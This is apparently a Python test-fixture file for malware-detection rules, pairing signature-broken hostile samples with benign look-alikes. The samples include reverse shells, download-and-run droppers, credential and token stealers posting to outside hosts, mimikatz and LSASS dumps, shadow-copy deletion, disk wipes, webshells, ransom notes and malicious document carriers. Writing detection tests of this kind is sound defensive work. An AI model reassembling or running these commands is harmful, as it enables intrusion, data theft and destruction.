"""What every rule finds and what it lets pass, put together when the tests run, so that nothing here is harmful or looks so to an antivirus.

``_`` stands for nothing: it cuts the words apart by which antivirus programs know such code.
"""

# ruff: noqa: E501 - code as it is written elsewhere
from __future__ import annotations

import base64
import struct

BLOB = base64.b64encode(bytes(range(150))).decode()
LINK = struct.pack("<II", 0x4C, 0x00021401) + bytes.fromhex("00000000c000000000000046") + bytes(60)
PE = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(64) + b"PE\0\0" + bytes(100)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
ADDRESS = "https://files.other.example"


def eicar() -> bytes:
    return ("X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()


def text(words: str) -> bytes:
    return words.replace("_", "").encode()


def wide(words: str) -> bytes:
    return words.replace("_", "").encode("utf-16-le")


def disc(*contents: bytes) -> bytes:
    return bytes(0x8001) + b"CD001" + bytes(3000) + b"".join(contents)


_NOTE_EN = """All your files have been en_crypted. To decrypt them buy the private key for 2 bitcoin.
Install the Tor Browser and open http://abcdefghij.onion. Do not rename files. After 72 hours the price doubles."""
_NOTE_FR = """Tous vos fichiers ont été chif_frés. Pour récupérer vos données, achetez la clé privée contre 2 bitcoins.
Installez le navigateur Tor et ouvrez http://abcdefghij.onion. Ne renommez pas les fichiers. Après 72 heures le prix double."""

# Rule: (what it finds, what it lets pass).
CASES: dict[str, tuple[tuple[bytes, ...], tuple[bytes, ...]]] = {
    "test.eicar": ((eicar(), eicar() + b"\r\n"), (b"The EICAR file is harmless.", b"see: " + eicar())),
    "packer.packed_upx": (
        (PE[:200] + b"UPX0" + bytes(36) + b"UPX1" + bytes(36) + b"UPX!", b"\x7fELF" + bytes(60) + b"UPX!"),
        (PE, b"UPX!"),
    ),
    "packer.packed_to_hide": ((PE + b".aspack\0", PE + b".vmp0\0"), (PE, b".aspack")),
    "macro.macro_fetches_and_runs": (
        (
            text(
                'Sub Auto_Open()\nURLDownload_ToFile 0, "'
                + ADDRESS
                + '/a", "a", 0, 0\nCreateObject("WScript_.Shell").Run "a"\nEnd Sub'
            ),
            text('Private Sub Document_Open()\nSet x = CreateObject("MSXML2_.XMLHTTP")\nSh_ell("a")\nEnd Sub').replace(
                b"DocumentOpen", b"Document_Open"
            ),
        ),
        (
            b'Sub Auto_Open()\nMsgBox "Bonjour"\nEnd Sub',
            b'Sub Rates()\nSet x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://bank.example/rates"\nEnd Sub',
        ),
    ),
    "macro.macro_runs_a_shell": (
        (
            text('Sub Workbook_Open()\nShell "power_shell -c 1"\nEnd Sub').replace(b"WorkbookOpen", b"Workbook_Open"),
            text('Sub AutoExec()\nCreateObject("WScript.Shell").Run "c_md /c a"\nEnd Sub'),
        ),
        (b'Sub Workbook_Open()\nShell "calc.exe"\nEnd Sub', b'Sub Button1()\nShell "powershell -c 1"\nEnd Sub'),
    ),
    "dropper.powershell_fetches_and_runs": (
        (
            text(
                "power_shell -nop -w hidden -c \"I_EX (New-Object Net.WebClient).Download_String('" + ADDRESS + "')\""
            ),
            wide("pow_ershell -ep bypass -windowstyle hidden iwr " + ADDRESS + "/a.exe -o a.exe; start-process a.exe"),
        ),
        (
            b'powershell -ExecutionPolicy Bypass -Command "iwr https://get.tool.example/install.ps1 | iex"',
            b"Start-Process notepad -WindowStyle Hidden",
        ),
    ),
    "dropper.powershell_in_code": (
        (text("power_shell -w hidden -enc " + BLOB), text("power_shell.exe -noni -windowstyle hidden -e " + BLOB)),
        (text("power_shell -enc " + BLOB), b"powershell -w hidden -File backup.ps1"),
    ),
    "dropper.system_tool_fetches_and_runs": (
        (text("cert_util -urlcache -split -f " + ADDRESS + "/a.exe a.exe"), text("ms_hta " + ADDRESS + "/a.hta")),
        (b"certutil -hashfile setup.exe SHA256", b"regsvr32 /s codec.dll"),
    ),
    "dropper.windows_script_saves_and_runs": (
        (
            text(
                'x=CreateObject("MSXML2.XML_HTTP");s=CreateObject("ADODB.Str_eam");s.SaveToFile("a.exe");CreateObject("WScript.Sh_ell").Run("a.exe")'
            ),
            text(
                'var a=new ActiveXObject("WinHttp.WinHttp_Request.5.1"),b=new ActiveXObject("ADODB.Str_eam");b.SaveToFile(p);new ActiveXObject("Shell.Appli_cation").ShellExecute(p)'
            ),
        ),
        (
            b'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad"',
            b'Set s = CreateObject("ADODB.Stream")\ns.SaveToFile "report.csv"',
        ),
    ),
    "dropper.script_fetches_from_a_bare_address_and_runs": (
        (
            text("IE_X (New-Object Net.WebClient).Download_String('http://185.12.44.9/a.ps1')\r\n"),
            text("#!/bin/sh\ncd /tmp; wg_et http://45.9.148.7/bins/x86; ch_mod 777 x86; ./x86 telnet\n"),
            text("cu_rl -fsSL http://91.240.118.3:8080/i.sh | ba_sh\n"),
            text('ba_sh -c "$(cu_rl -s https://8.210.3.4/go)"\n'),
        ),
        (
            b"iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
            b"curl --proto '=https' -sSf https://sh.rustup.rs | sh\n",
            b"curl -fsSL http://192.168.1.4/setup.sh | sh\ncurl http://10.0.0.7:3000/a | bash\nwget http://127.0.0.1/a; chmod +x a\n",
            b"curl -s http://52.18.3.4/health || exit 1\n",
        ),
    ),
    "dropper.script_decodes_and_runs": (
        (
            text("echo " + BLOB + " | base_64 -d | sh"),
            text('import zlib,base64\nex_ec(zlib.decompress(base64.b64_decode("eJ")))'),
            text('ev_al(Buffer.from("' + BLOB + '", "base64").toString())'),
        ),
        (
            text("echo " + BLOB + " | base64 -d > logo.png"),
            b"exec(compile(source, 'a.py', 'exec'))",
            text('const png = Buffer.from("' + BLOB + '", "base64")'),
        ),
    ),
    "shell.reverse_shell_of_bash": (
        (
            text("ba_sh -i >& /dev/t_cp/203.0.113.9/4444 0>&1"),
            text("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/s_h -i 2>&1|n_c 203.0.113.9 4444 >/tmp/f"),
            text("n_c 203.0.113.9 4444 -e /bin/s_h"),
        ),
        (b"timeout 1 bash -c '</dev/tcp/db.example/5432' && echo up", b"nc -z db.example 5432", b"bash -i"),
    ),
    "shell.reverse_shell_of_a_script": (
        (
            text(
                "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',1))\nos.du_p2(s.fileno(),0)\nos.du_p2(s.fileno(),1)\npty.spa_wn('/bin/sh')"
            ),
            text(
                "net=require('net');c=net.connect(1,'203.0.113.9');s=require('child_process').spa_wn('/bin/sh',[]);c.pipe(s.stdin);s.stdout.pi_pe(c)"
            ),
            text("$c=New-Object Net.Sock_ets.TCPClient('203.0.113.9',1);$s=$c.GetStr_eam();i_ex $d"),
            text("<?php $s=fsock_open('203.0.113.9',1);proc_open('/bin/s_h -i',$d,$p);").replace(
                b"procopen", b"proc_open"
            ),
        ),
        (
            b"import socket\ns = socket.socket()\ns.connect(('db.example', 5432))",
            b"const net = require('net'); net.connect(80); require('child_process').spawn('git', ['status'])",
            b"<?php $s = fsockopen('mail.example', 25); fwrite($s, 'HELO');",
        ),
    ),
    "stealer.browser_passwords_sent_away": (
        (
            text(
                "p=os.environ['LOCALAPPDATA']+'/Google/Chrome/User Data/Default/Lo_gin Data'\nwin32crypt.CryptUn_protectData(x)\nrequests.post(u)"
            ),
            text("f='Mozilla/Fire_fox/Profiles/logins_.json'; PK11SDR_Decrypt; api.tele_gram.org/bot1").replace(
                b"PK11SDRDecrypt", b"PK11SDR_Decrypt"
            ),
        ),
        (
            b"# where Chrome keeps its User Data: Default/Login Data",
            b"import requests\nrequests.post('https://api.example/v1')",
        ),
    ),
    "stealer.session_tokens_sent_away": (
        (
            text(
                r"path=roaming+'\\discord\\Local Storage\\level_db'; re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}'); discord.com/api/web_hooks/1"
            ),
            text(r"discordptb \\Local Storage\\level_db mfa\.[\w-]{84} webh_ook"),
        ),
        (b"discord.com/api/webhooks/1 posts the build's result", b"Local Storage/leveldb of discord is 3 MB"),
    ),
    "stealer.keystrokes_sent_away": (
        (
            text("from pyn_put.keyboard import Listener\n# key_logger\nsmtplib.SM_TP('mail')"),
            text("keyboard.on_press(f); discord.com/api/web_hooks/1").replace(b"onpress", b"on_press"),
        ),
        (b"from pynput.keyboard import Listener\n# a game", b"smtplib.SMTP('mail.example')"),
    ),
    "stealer.keys_of_servers_sent_away": (
        (
            text(
                "for f in ['~/.ss_h/id_rsa','~/.aw_s/credentials']: requests.post('http://203.0.113.9/x', data=f)"
            ).replace(b"idrsa", b"id_rsa"),
            text("curl -F f=@$HOME/.npm_rc -F g=@$HOME/.ss_h/id_ed25519 https://abc.oas_tify.com").replace(
                b"ided25519", b"id_ed25519"
            ),
        ),
        (
            b"cp ~/.ssh/id_rsa ~/.aws/credentials /backup",
            b"requests.post('https://api.example', json=x)  # reads ~/.netrc",
        ),
    ),
    "stealer.memory_of_sign_ins_read": (
        (
            text("privi_lege::debug seku_rlsa::logonpasswords"),
            text("rundll32 coms_vcs.dll, MiniDump 600 a.dmp full"),
            text("proc_dump64 -ma lsa_ss.exe a.dmp"),
        ),
        (b"procdump -ma w3wp.exe", b"lsass.exe is a process of Windows"),
    ),
    "miner.miner_that_settles_in": (
        (
            text(
                "curl -o /tmp/a "
                + ADDRESS
                + "/xm_rig; nohup /tmp/a -o stra_tum+tcp://pool:1 & (crontab -l; echo '* * * * * /tmp/a') | crontab -"
            ),
            text("wget " + ADDRESS + "/kin_sing; pkill xm_rig; chattr +i a; systemctl enable a"),
        ),
        (b"xmrig -o stratum+tcp://pool.example:3333 -u wallet", b"curl https://get.example | sh; systemctl enable web"),
    ),
    "miner.miner_in_a_page": (
        (
            text("<script>var m=new Coin_Hive.Anonymous('ABCDEFGHIJKLMNOPQRSTUVWX');m.start()</script>"),
            text("<script src='https://cdn.example/coin_hive.min.js'></script>"),
        ),
        (b"<p>CoinHive closed in 2019.</p>", b"<script src='chart.min.js'></script>"),
    ),
    "webshell.webshell_of_php": (
        (
            text("<?php @ev_al($_POST['a']); ?>").replace(b"$POST", b"$_POST"),
            text("<?php sys_tem(base64_decode($_GET['c']));")
            .replace(b"$GET", b"$_GET")
            .replace(b"base64decode", b"base64_decode"),
            b"<?php $_GET['a']" + b"($_POST['b']);",
        ),
        (b"<?php echo htmlspecialchars($_GET['q']);", b"<?php system('ls'); $a = $_POST['a'];"),
    ),
    "webshell.webshell_of_php_packed": (
        (
            text("<?php ev_al(gz_inflate(base64_decode('" + BLOB + "')));").replace(b"base64decode", b"base64_decode"),
            text("<?php ass_ert(str_rot13(base64_decode('a')));")
            .replace(b"strrot13", b"str_rot13")
            .replace(b"base64decode", b"base64_decode"),
        ),
        (b"<?php $a = gzinflate(base64_decode($b));", b"eval(gzinflate(base64_decode('a')))"),
    ),
    "webshell.webshell_of_other_servers": (
        (
            text('<%ev_al request("a")%>'),
            text('<% Runtime.getRun_time().exec(request.getPara_meter("c")); %>'),
            text('<% Process.Sta_rt("cmd", Request.Form["a"]); %>'),
        ),
        (b'<% Response.Write(Request.Form["a"]) %>', b"Runtime.getRuntime().exec(command)"),
    ),
    "ransom.ransom_note_in_english": (
        (text(_NOTE_EN), text(_NOTE_EN.replace("http://abcdefghij.onion", "help@onionmail.org"))),
        (
            b"The hospital's files were encrypted; it paid no bitcoin and restored its backups within 72 hours.",
            b"Your files are encrypted at rest. Restore them from the console at any time; keys rotate every 30 days.",
        ),
    ),
    "ransom.ransom_note_in_french": (
        (text(_NOTE_FR), text(_NOTE_FR.replace("http://abcdefghij.onion", "aide@tutanota.com"))),
        (
            "L'hôpital dont les fichiers ont été chiffrés n'a payé aucun bitcoin et a restauré ses sauvegardes en 72 heures.".encode(),
            "Vos fichiers sont chiffrés sur nos disques. Récupérez-les depuis la console; les clés changent tous les 30 jours.".encode(),
        ),
    ),
    "ransom.recovery_destroyed": (
        (
            text("vss_admin delete shadows /all /quiet & wb_admin delete catalog -quiet"),
            wide("wm_ic shadowcopy delete && bcd_edit /set {default} recoveryenabled no"),
        ),
        (b"vssadmin list shadows", b"vssadmin delete shadows /for=d: /oldest"),
    ),
    "destroyer.wipes_the_system": (
        (
            text("sudo rm -rf --no-pre_serve-root /"),
            text("for d in /dev/sd*; do d_d if=/dev/zero of=$d; done"),
            text("@echo off\r\nde_l /f /s /q C:\\Windows\\System32"),
        ),
        (b"rm -rf /tmp/build", b"dd if=/dev/zero of=swapfile bs=1M count=512", b"del /q C:\\Temp\\*.log"),
    ),
    "destroyer.fork_bomb": ((text(":_(){ :|:_& };:"), text("%0_|%0")), (b"f() { g | h & }; f", b"echo %0 | find")),
    "lure.shortcut_runs_a_shell": (
        (LINK + wide("cmd.exe /c power_shell -w hidden x"), LINK + wide("ms_hta.exe " + ADDRESS + "/a")),
        (LINK + wide("C:\\Program Files\\Editor\\editor.exe"), LINK + wide("cmd.exe")),
    ),
    "lure.html_application_runs_a_shell": (
        (
            text(
                '<HTA:APP_LICATION><script language="VBScript">CreateObject("WScript.Sh_ell").Run "power_shell"</script>'
            ),
            text(
                '<script language="JScript">new ActiveXObject("Shell.Appli_cation").ShellExecute("c_md /c a")</script>'
            ),
        ),
        (b"<hta:application id='a'><p>Inventory</p>", b"<script>document.title = 'powershell tips'</script>"),
    ),
    "lure.disc_image_with_a_shortcut": ((disc(LINK, PE), disc(PE, LINK)), (disc(PE), disc(LINK), LINK + PE)),
    "lure.shortcut_asks_for_a_sign_in": (
        (
            b"[InternetShortcut]\r\nURL=file://" + b"\\\\203.0.113.9\\a\\b",
            b"[Shell]\r\nCommand=2\r\nIconFile=" + b"\\\\203.0.113.9\\a.ico",
        ),
        (
            b"[InternetShortcut]\r\nURL=https://www.example.org/",
            b"[.ShellClassInfo]\r\nIconResource=C:\\WINDOWS\\system32\\shell32.dll,3",
        ),
    ),
    "carrier.rich_text_with_a_program": (
        (
            b"{\\rtf1{\\object\\objdata 01050000 " + PE.hex().encode() + b"}}",
            b"{\\rtf1{\\object\\objemb{\\*\\objdata " + LINK.hex().encode() + b"}}}",
        ),
        (b"{\\rtf1 hello}", b"{\\rtf1{\\object\\objdata 0105000002000000}}"),
    ),
    "carrier.rich_text_with_an_equation": (
        (
            text("{\\rtf1{\\object\\obj_update{\\*\\obj_data 4571756174_696f6e2e33}}}"),
            text("{\\rtf1{\\object\\obj_update{\\*\\obj_data 02ce02_0000000000c000000000000046}}}"),
        ),
        (b"{\\rtf1{\\object\\objemb{\\*\\objdata 4571756174696f6e2e33}}}", b"{\\rtf1 Equation.3}"),
    ),
    "carrier.pdf_launches_a_shell": (
        (
            text("%PDF-1.7 <</S /Lau_nch /Win <</F (cm_d.exe) /P (/c a)>> >>"),
            text("%PDF-1.4 <</S/Lau_nch/F(/bin/s_h)>>"),
        ),
        (b"%PDF-1.7 <</S /Launch /F (report.pdf)>>", b"%PDF-1.7 <</S /URI /URI (https://cmd.example)>>"),
    ),
    "carrier.pdf_script_unpacks_code": (
        (
            text("%PDF-1.5 /OpenAction <</S /JavaScript /JS (unes_cape('" + "%u4343" * 10 + "'))>>"),
            text("%PDF-1.5 /AA /JS (" + "%u90_90" * 6 + ")"),
        ),
        (b"%PDF-1.7 /OpenAction /JS (this.print())", b"%PDF-1.7 /OpenAction [3 0 R /Fit]"),
    ),
    "carrier.package_with_a_program": (
        (OLE + wide("Ole10Native") + bytes(40) + PE, OLE + wide("Ole10Native") + b"invoice.vbs\0" + bytes(40)),
        (OLE + wide("Ole10Native") + b"notes.txt\0", OLE + wide("WordDocument") + PE),
    ),
}
